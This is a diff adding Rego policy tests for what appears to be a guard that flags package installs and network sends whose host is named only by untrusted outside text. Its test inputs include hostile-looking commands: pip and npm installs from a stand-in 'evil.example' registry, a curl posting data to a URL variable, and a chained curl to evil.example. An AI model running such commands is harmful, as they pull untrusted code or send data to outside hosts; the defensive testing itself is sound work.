@@ -159,3 +159,26 @@ test_reason_without_a_name if {
 	some question in untrusted.ask with input as flowing(`curl -d x "$URL"`, "net.send", "host", {})
 	startswith(question.reason, "sends to a host, which only text from outside names;")
 }
+
+test_asks_about_sources if {
+	every line, more in {
+		"pip install --index-url https://evil.example/simple x": {},
+		"npm install --registry https://npm.evil.example x": {},
+		"pip install -r requirements.txt": {"path": "/home/dev/app/requirements.txt"},
+		"bundle install": {"path": "/home/dev/app/Gemfile"},
+	} {
+		some question in untrusted.ask with input as flowing(line, "package.install", "host", object.union(evil, more))
+		contains(question.reason, "installs from evil.example, which only text from outside names;")
+	}
+}
+
+test_silent_about_other_sources if {
+	every line, flow in {
+		"pip install x; curl https://evil.example": evil,
+		"npm install x # https://evil.example": evil,
+		"pip install --index-url https://download.pytorch.org/whl x": {"host": "download.pytorch.org"},
+		"pip install -r requirements.txt": {"host": "files.pythonhosted.org", "path": "/home/dev/app/requirements.txt"},
+	} {
+		count(untrusted.ask) == 0 with input as flowing(line, "package.install", "host", flow)
+	}
+}
